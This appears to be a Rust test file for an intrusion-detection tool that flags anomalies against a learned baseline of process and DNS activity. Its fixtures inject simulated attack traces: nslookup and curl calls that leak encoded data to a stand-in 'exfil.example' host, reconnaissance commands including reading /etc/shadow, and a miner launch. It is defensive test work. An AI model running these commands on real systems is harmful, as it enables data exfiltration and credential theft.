//! Baselines with an attack inside, and their clean twins.

use super::{Hint, Known, MatchedFact, RaisedFact, hints};
use crate::learning::Scope;
use crate::model::{Facet, NodeId, Selection, Severity};
use crate::signals::tests::world::{Dump, World, at, dump};

/// A deterministic word as base64 makes them.
fn base64(seed: usize, length: usize) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let mut state = (seed as u64 + 1).wrapping_mul(0x9e37_79b9_7f4a_7c15);
    (0..length)
        .map(|_| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            char::from(LETTERS[(state >> 33) as usize % LETTERS.len()])
        })
        .collect()
}

/// What a web service does, seen by seen the same.
const ORDINARY: &str = "/usr/bin/api serve
  /usr/bin/dash -c df_-h
  /usr/bin/dash -c uptime
  r /etc/hosts
  dns db.shop.svc.cluster.local
  dns api.partner.example
  dns d3a4f5b6c7d8e9.cloudfront.example
";

fn ordinary(number: u64) -> Dump {
    // One-off names as there are in every recording: temporary files, numbered backups, names of pods.
    let own = format!(
        "  w /tmp/{}\n  /usr/bin/dash -c gzip_/backup/{}.gz\n  dns ip-10-0-0-{number}.ec2.internal\n",
        base64(number as usize, 9),
        20_000 + number
    );
    dump(["a", "b", "c", "d"][number as usize % 4], (number * 2, number * 2 + 1), ORDINARY.to_owned() + &own)
}

fn baseline() -> Vec<Dump> {
    (0..30).map(ordinary).collect()
}

fn found(dumps: &[Dump], known: &Known) -> Vec<Hint> {
    let world = World::of(dumps);
    let scope = Scope::of(&world.profile, Selection::all(world.profile.observations()));
    hints(&world.profile, &scope, known)
}

fn ids(hints: &[Hint]) -> Vec<&'static str> {
    hints.iter().map(|hint| hint.spec.id).collect()
}

#[test]
fn a_baseline_that_only_works_shows_no_hint() {
    assert_eq!(ids(&found(&baseline(), &Known::default())), [] as [&str; 0]);
    assert_eq!(
        ids(&found(&baseline()[..1], &Known::default())),
        [] as [&str; 0],
        "nor does a single snapshot"
    );
}

#[test]
fn data_that_left_in_names_through_a_shell_is_hinted_at() {
    let mut dumps = baseline();
    let stolen: String =
        (0..78).map(|n| format!("  /usr/bin/dash -c nslookup_{}.exfil.example\n", base64(n, 30))).collect();
    // The underscore stands for a blank: the script of a dump has its words by blanks.
    let stolen = stolen.replace('_', "\u{a0}");
    dumps[7].script += &stolen;
    let hints = found(&dumps, &Known::default());
    assert_eq!(ids(&hints), ["one-off-commands"]);
    assert_eq!(hints[0].under, "/usr/bin/dash");
    // Of a node 64 command lines are kept, some of them ordinary.
    assert!((40..=64).contains(&hints[0].count), "{}", hints[0].count);
    assert!(hints[0].example.contains("exfil.example"), "{}", hints[0].example);
}

#[test]
fn the_same_is_seen_in_one_aggregate_alone() {
    let stolen: String = (0..78)
        .map(|n| format!("  /usr/bin/dash -c nslookup\u{a0}{}.exfil.example\n", base64(n, 30)))
        .collect();
    let whole = |script: String| Dump { aggregate: true, ..dump("x", (0, 9), script) };
    let clean = whole(ORDINARY.to_owned());
    assert_eq!(ids(&found(&[clean], &Known::default())), [] as [&str; 0]);
    let poisoned = whole(ORDINARY.to_owned() + &stolen);
    assert_eq!(ids(&found(&[poisoned], &Known::default())), ["one-off-commands"]);
}

#[test]
fn somebody_who_types_is_hinted_at() {
    let mut dumps = baseline();
    let typed = [
        "id",
        "uname",
        "ls",
        "cat\u{a0}/etc/shadow",
        "ps",
        "env",
        "mount",
        "w",
        "last",
        "ss",
        "who",
        "pwd",
        "find",
    ];
    dumps[9].script += &typed.map(|line| format!("  /usr/bin/bash -c {line}\n")).concat();
    let hints = found(&dumps, &Known::default());
    assert_eq!(ids(&hints), ["one-off-commands"]);
    assert_eq!((hints[0].count, hints[0].under.as_str()), (13, "/usr/bin/bash"));
}

#[test]
fn a_quiet_one_leaves_a_name_and_a_tool() {
    let mut dumps = baseline();
    dumps[5].script += &format!("  /usr/bin/curl -s x\n    dns {}.exfil.example\n", base64(1, 40));
    let hints = found(&dumps, &Known::default());
    assert_eq!(ids(&hints), ["data-in-names", "lone-tool"]);
    assert_eq!((hints[0].total, hints[0].under.as_str()), (1, "exfil.example"));
    assert_eq!(
        (hints[1].under.as_str(), hints[1].instances.as_slice()),
        ("/usr/bin/curl", &["b".to_owned()][..])
    );
    // In every instance it would be a health check.
    let mut usual = baseline();
    usual.iter_mut().for_each(|dump| dump.script += "  /usr/bin/curl -s x\n");
    assert_eq!(ids(&found(&usual, &Known::default())), [] as [&str; 0]);
    // A new version that one instance ran may need it.
    let newer = dump("e", (90, 91), ORDINARY.to_owned() + "  /usr/bin/curl -s x\n").version("v2");
    let mut two_versions = baseline();
    two_versions.push(newer);
    assert_eq!(ids(&found(&two_versions, &Known::default())), [] as [&str; 0]);
    // Of two instances neither is the odd one.
    let two: Vec<Dump> = dumps.into_iter().filter(|dump| "ab".contains(&dump.instance)).collect();
    assert_eq!(ids(&found(&two, &Known::default())), ["data-in-names"]);
}

#[test]
fn short_labels_and_very_many_names_count_together_only() {
    let with = |count: usize, label: fn(usize) -> String| {
        let mut dumps = baseline();
        dumps[3].script +=
            &(0..count).map(|n| format!("  dns {}.odd.example\n", label(n))).collect::<String>();
        ids(&found(&dumps, &Known::default()))
    };
    assert_eq!(with(4, |n| base64(n, 14)), [] as [&str; 0]);
    assert_eq!(with(6, |n| base64(n, 14)), ["data-in-names"]);
    assert_eq!(with(19, |n| format!("host{n}")), [] as [&str; 0]);
    assert_eq!(with(20, |n| format!("host{n}")), ["many-names"]);
}

#[test]
fn what_was_born_close_to_an_alert_in_its_instance_is_hinted_at() {
    let mut dumps = baseline();
    // Instance b, from hour 10 to 11.
    dumps[5].script += "  /usr/bin/miner -o x\n";
    let raised = |instance: &str, hours: u64| Known {
        raised: vec![RaisedFact {
            instance: instance.to_owned(),
            time: at(hours),
            rule: "miner_started".to_owned(),
            severity: Some(Severity::High),
        }],
        ..Known::default()
    };
    let hints = found(&dumps, &raised("b", 11));
    assert_eq!(ids(&hints), ["near-signal"]);
    assert_eq!(
        (hints[0].total, hints[0].example.as_str(), hints[0].under.as_str()),
        (1, "miner_started", "b")
    );
    for (instance, hours) in [("b", 12), ("c", 10)] {
        assert_eq!(ids(&found(&dumps, &raised(instance, hours))), [] as [&str; 0], "{instance} {hours}");
    }
    // What others do as well is no trace.
    dumps[6].script += "  /usr/bin/miner -o x\n";
    assert_eq!(ids(&found(&dumps, &raised("b", 10))), [] as [&str; 0]);
}

#[test]
fn a_rule_that_matched_counts_by_its_severity() {
    let world = World::of(&baseline());
    let tree = world.profile.tree();
    let node = tree.nodes().find(|&node| tree.facet(node) == Facet::Dns).unwrap_or(NodeId(0));
    for (severity, expected) in [
        (Some(Severity::Critical), &["severe-rule"][..]),
        (Some(Severity::High), &["severe-rule"]),
        (Some(Severity::Medium), &[]),
        (None, &[]),
    ] {
        let known =
            Known { matched: vec![MatchedFact { node, rule: "r".to_owned(), severity }], ..Known::default() };
        assert_eq!(ids(&found(&baseline(), &known)), expected, "{severity:?}");
    }
}
